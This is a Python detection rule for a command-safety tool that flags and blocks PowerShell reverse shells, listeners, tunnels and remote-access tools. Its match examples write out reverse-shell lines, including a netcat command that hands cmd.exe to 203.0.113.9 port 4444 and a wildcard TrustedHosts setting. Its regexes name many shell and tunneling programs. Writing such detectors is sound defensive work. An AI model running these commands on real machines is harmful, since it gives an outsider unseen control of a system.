"""A machine elsewhere gets a shell here."""

import re
from collections.abc import Iterable

from bcce.kit.findings import Rule, Severity, Verdict
from bcce.safety.powershell.view import View
from bcce.safety.rules.powershell import Place

RULE = Rule(
    id="powershell.reverse-shell",
    title="Another machine gets a shell on this one",
    severity=Severity.CRITICAL,
    verdict=Verdict.BLOCK,
    why="whoever is at the other end does what they like, unseen",
    instead="use the remote access that the machine's owner runs",
    tags=("T1059.001", "T1571", "T1219"),
    examples_match=(
        "$c = New-Object System.Net.Sockets.TCPClient('203.0.113.9',4444); $s = $c.GetStream()",
        "[System.Net.Sockets.TcpListener]::new(4444).Start()",
        "nc.exe -e cmd.exe 203.0.113.9 4444",
        "$h = [System.Net.HttpListener]::new(); $h.Start()",
        "Enable-PSRemoting -Force; Set-Item WSMan:\\localhost\\Client\\TrustedHosts -Value *",
        "Start-Process ngrok.exe -ArgumentList 'tcp 3389'",
    ),
    examples_pass=(
        "Test-NetConnection db1 -Port 5432",
        "Get-NetTCPConnection -State Listen",
        "$t = New-Object Net.Sockets.TcpClient; $t.Connect('db1', 5432); $t.Connected",
    ),
)
_TYPES = re.compile(
    r"(?i)^(?:system\.)?net\.(?:sockets\.(?:tcplistener|udpclient|socket)|httplistener|websockets\.clientwebsocket)$|"
    r"^(?:system\.)?io\.pipes\.namedpipe(?:server|client)stream$"
)
_PROGRAM = re.compile(
    r"(?i)(?:^|[\\\s'\"])(?:(?:nc|ncat|netcat)(?:64)?(?:\.exe)? .*-\w*[elc]|powercat|socat(?:\.exe)? .*exec|plink(?:\.exe)? .*-R|"
    r"ssh(?:\.exe)? .*-\w*R|ngrok|chisel|cloudflared(?:\.exe)? +tunnel|anydesk|teamviewer|dnscat|invoke-powershelltcp\w*|revshell|frpc|"
    r"ligolo|tailscale(?:\.exe)? +up)"
)


def find(view: View) -> Iterable[Place]:
    """Sockets whose stream is read, listeners, tunnels and the usual programs."""
    for call in view.calls:
        said = view.said(call)
        if (
            (call.name == "new-object" and any(_TYPES.match(word) for word in view.everything(call)))
            or (
                call.name
                not in (
                    "write-host",
                    "write-output",
                    "get-process",
                    "stop-process",
                    "get-service",
                    "select-string",
                    "where-object",
                    "get-childitem",
                    "test-path",
                )
                and _PROGRAM.search(said)
            )
            or (call.name in ("set-item", "set-wsmanquickconfig", "winrm", "winrm.cmd") and re.search(r"(?i)trustedhosts.*\*", said))
        ):
            yield Place(call.command)
    streams = [member for member in view.members if (view.values.text(member.name) or "").lower() == "getstream"]
    if streams and re.search(r"(?i)tcpclient|socket", view.text):
        yield Place(streams[0])
    for member in view.members:
        target = getattr(member.target, "name", None)
        if member.is_static and isinstance(target, str) and _TYPES.match(target):
            yield Place(member)
